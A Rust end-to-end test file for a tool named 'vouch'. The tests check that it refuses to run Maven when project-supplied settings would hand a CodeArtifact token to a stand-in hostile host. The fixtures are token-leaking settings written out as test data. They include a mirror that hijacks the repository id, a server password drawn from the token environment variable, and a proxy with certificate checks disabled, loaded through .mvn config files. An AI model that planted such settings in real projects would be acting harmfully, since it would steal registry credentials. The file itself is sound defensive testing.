//! What settings that a project brings along can make Maven do with the token, and that `vouch exec` does not start it then.
//! `docs/untrusted-projects.md` tells it.

use std::fs;

use vouch_e2e::hostile::HostileHost;
use vouch_e2e::maven::{self, Maven, REPOSITORY};
use vouch_e2e::{CommandOutput, Sandbox, in_sandbox};

const PUBLIC: &str = "CODEARTIFACT_AUTH_TOKEN";
const ALL: &[Maven] = &[Maven::Distribution, Maven::Pinned("3.9.16"), FOUR];
const FOUR: Maven = Maven::Pinned("4.0.0-rc-5");

/// Files of a project, the guilty one first, and which Maven gives the token away in it.
struct Project<'a> {
    mavens: &'a [Maven],
    files: &'a [(&'a str, String)],
    /// What is said of the first file.
    message: &'a str,
    /// Whether the token is in the variable that every POM knows.
    is_public: bool,
}

fn write(sandbox: &Sandbox, files: &[(&str, String)]) {
    let _ = fs::remove_dir_all(sandbox.file("app"));
    let needs = "<repositories><repository><id>theirs</id><url>http://127.0.0.1:9/</url></repository></repositories>\n\
                 <dependencies><dependency><groupId>org.evil</groupId><artifactId>evil</artifactId>\
                 <version>1.0</version></dependency></dependencies>\n";
    sandbox.write("app/pom.xml", &maven::pom("app", "1.0", needs));
    for (name, text) in files {
        sandbox.write(&format!("app/{name}"), text);
    }
    let _ = fs::remove_dir_all(sandbox.file(".m2/repository/org/evil"));
}

impl Project<'_> {
    /// Maven as it is, which sends the token, and then by way of `vouch exec`.
    fn gives_away(&self, sandbox: &Sandbox, hostile: &HostileHost) {
        let kind = if self.is_public { "codeartifact" } else { "maven" };
        let file = sandbox.file(&format!("app/{}", self.files[0].0)).display().to_string();
        for maven in self.mavens {
            user_settings(sandbox, *maven);
            let token = sandbox.vouch(&["credential", "codeartifact"]).ok().stdout;
            let variable = if self.is_public { PUBLIC.to_owned() } else { maven::variable(sandbox) };
            let run = |what: &[(&str, String)]| {
                write(sandbox, what);
                let run = maven.prepared(sandbox, "mvn").args(["--batch-mode", "compile"]);
                run.env(&variable, token.trim()).within(sandbox.file("app")).done()
            };
            let done = run(self.files);
            assert!(hostile.got_a_token(), "{maven:?} {file}: nothing was sent: {done}");
            let done = maven.exec(sandbox, kind, "app", &["compile"]).done();
            refused(&done, &file, self.message);
            assert_eq!(hostile.arrived(), Vec::<String>::new(), "{done}");
            let doctor = sandbox.vouch(&["doctor"]).within(sandbox.file("app")).fails(1);
            assert!(doctor.stdout.contains(&file) && doctor.stdout.contains(self.message), "{doctor}");
        }
        // Without that file nobody says a word of it.
        write(sandbox, &self.files[1..]);
        let done = FOUR.exec(sandbox, kind, "app", &["--version"]).done();
        assert!(!done.stderr.contains(self.message), "{done}");
        let doctor = sandbox.vouch(&["doctor"]).within(sandbox.file("app")).done();
        assert!(!doctor.stdout.contains(self.message), "{doctor}");
    }
}

fn refused(done: &CommandOutput, file: &str, message: &str) {
    assert_eq!(done.code, 125, "{done}");
    for part in
        ["was not started: this project would give the token away", message, &format!("`{file}` line ")]
    {
        assert!(done.stderr.contains(part), "{part}: {done}");
    }
}

/// Of a user who has Vouch's entry in them.
fn user_settings(sandbox: &Sandbox, maven: Maven) {
    let packages = maven.packages("central");
    let text = format!("<settings>\n  <mirrors>\n{packages}  </mirrors>\n</settings>\n");
    sandbox.write(".m2/settings.xml", &text);
    let _ = maven::set_up(sandbox, &[]).ok();
}

/// Settings with a mirror under an id, beside the one that has Maven's plugins.
fn mirror(id: &str, hostile: &HostileHost, more: &str) -> String {
    format!(
        "<settings>\n{more}<mirrors><mirror><id>{id}</id><mirrorOf>theirs</mirrorOf>\n<url>{}/m/</url></mirror></mirrors>\n</settings>\n",
        hostile.url()
    )
}

const ELSEWHERE: &str = "`mirror.url` sends the token to another host";

#[test]
fn a_mirror_with_the_id_of_our_server() {
    in_sandbox(&[], |sandbox| {
        sandbox.enroll();
        sandbox.log_in();
        let hostile = HostileHost::start();
        let settings = mirror(REPOSITORY, &hostile, "");
        let case = |mavens, files: &[(&str, String)]| {
            Project { mavens, files, message: ELSEWHERE, is_public: false }.gives_away(sandbox, &hostile);
        };
        // Maven 4 reads that as it is; for the others it needs a name.
        case(&[FOUR], &[(".mvn/settings.xml", settings.clone())]);
        let named = |file: &'static str, line: &str| {
            [("conf/settings.xml", settings.clone()), (file, format!("{line}\n"))]
        };
        case(ALL, &named(".mvn/maven.config", "-gs\nconf/settings.xml"));
        let property = "maven.project.settings=conf/settings.xml";
        case(&[FOUR], &named(".mvn/jvm.config", &format!("-D{property}")));
        case(&[FOUR], &named(".mvn/maven-user.properties", property));
        // Neither of the others reads it.
        for maven in &ALL[..2] {
            user_settings(sandbox, *maven);
            write(sandbox, &[(".mvn/settings.xml", settings.clone())]);
            let run = maven.prepared(sandbox, "mvn").args(["--batch-mode", "compile"]);
            let _ = run.env(&maven::variable(sandbox), "eyJx").within(sandbox.file("app")).fails(1);
            assert_eq!(hostile.arrived(), Vec::<String>::new());
        }
    });
}

#[test]
fn a_server_that_takes_the_token_from_the_environment() {
    in_sandbox(&[], |sandbox| {
        sandbox.enroll();
        sandbox.log_in();
        let hostile = HostileHost::start();
        let server = format!(
            "<servers><server><id>mine</id><username>aws</username><password>${{env.{PUBLIC}}}</password></server></servers>\n"
        );
        for maven in ALL {
            let packages = format!("{server}<mirrors>\n{}", maven.packages("central"));
            let settings = mirror("mine", &hostile, "").replace("<mirrors>", &packages);
            let files =
                [("conf/s.xml", settings), (".mvn/maven.config", "--settings=conf/s.xml\n".to_owned())];
            let mavens = &[*maven];
            Project { mavens, files: &files, message: ELSEWHERE, is_public: true }
                .gives_away(sandbox, &hostile);
        }
    });
}

/// Settings that no mirror leads away, but a proxy of theirs reads along where the check of certificates is off.
#[test]
fn a_proxy_of_settings() {
    in_sandbox(&[], |sandbox| {
        sandbox.enroll();
        sandbox.log_in();
        let hostile = HostileHost::start();
        let settings = format!(
            "<settings><proxies><proxy><id>p</id><protocol>https</protocol>\n<host>127.0.0.1</host><port>{}</port></proxy></proxies>\n\
             <profiles><profile><id>p</id><properties>\n<aether.connector.https.securityMode>insecure\
             </aether.connector.https.securityMode></properties></profile></profiles>\n\
             <activeProfiles><activeProfile>p</activeProfile></activeProfiles></settings>\n",
            hostile.port()
        );
        let pom = maven::pom(
            "app",
            "1.0",
            &format!(
                "<repositories><repository><id>{REPOSITORY}</id><url>{}</url></repository></repositories>\n\
                 <dependencies><dependency><groupId>org.evil</groupId><artifactId>evil</artifactId>\
                 <version>1.0</version></dependency></dependencies>\n",
                maven::ENDPOINT
            ),
        );
        let files = [
            ("conf/s.xml", settings),
            (".mvn/maven.config", "-gs\nconf/s.xml\n".to_owned()),
            ("pom.xml", pom),
        ];
        let message = "lets the project's own proxy read the token";
        let mavens = &[Maven::Pinned("3.9.16")];
        Project { mavens, files: &files, message, is_public: false }.gives_away(sandbox, &hostile);
    });
}

/// Settings of a company's own project, and files that cannot be followed.
#[test]
fn honest_settings_are_left_alone_and_those_that_are_not_there_are_named() {
    in_sandbox(&[], |sandbox| {
        sandbox.enroll();
        sandbox.log_in();
        user_settings(sandbox, FOUR);
        let version = || FOUR.exec(sandbox, "maven", "app", &["--version"]).done();
        let honest = format!(
            "<settings><servers><server><id>mine</id><password>${{env.{PUBLIC}}}</password></server></servers>\n\
             <mirrors><mirror><id>company</id><mirrorOf>central</mirrorOf><url>https://maven.example/</url></mirror></mirrors>\n\
             <proxies><proxy><host>p.example</host><nonProxyHosts>*.amazonaws.com</nonProxyHosts></proxy></proxies>\n\
             <profiles><profile><repositories><repository><id>mine</id><url>{}</url></repository></repositories></profile></profiles>\n\
             </settings>\n",
            maven::ENDPOINT
        );
        let config = (".mvn/maven.config", "-B\n--global-settings=.mvn/s.xml\n".to_owned());
        let jvm = (".mvn/jvm.config", "-Xmx1g\n-Dfile.encoding=UTF-8\n".to_owned());
        write(sandbox, &[(".mvn/s.xml", honest), config.clone(), jvm]);
        let done = version();
        assert!(done.code == 0 && !done.stderr.contains(".mvn/"), "{done}");
        let doctor = sandbox.vouch(&["doctor"]).within(sandbox.file("app")).done();
        assert!(!doctor.stdout.contains(".mvn/"), "{doctor}");

        write(sandbox, std::slice::from_ref(&config));
        let told = "line 2: `--global-settings` names a file that is not there";
        let done = version().says(told);
        assert_ne!(done.code, 125, "{done}");
        let doctor = sandbox.vouch(&["doctor"]).within(sandbox.file("app")).done();
        assert!(doctor.stdout.contains(told), "{doctor}");
        write(sandbox, &[config, (".mvn/s.xml", " ".repeat(9 << 20))]);
        let _ = version().says("s.xml` was not looked at: it is larger than 8 MiB");
    });
}
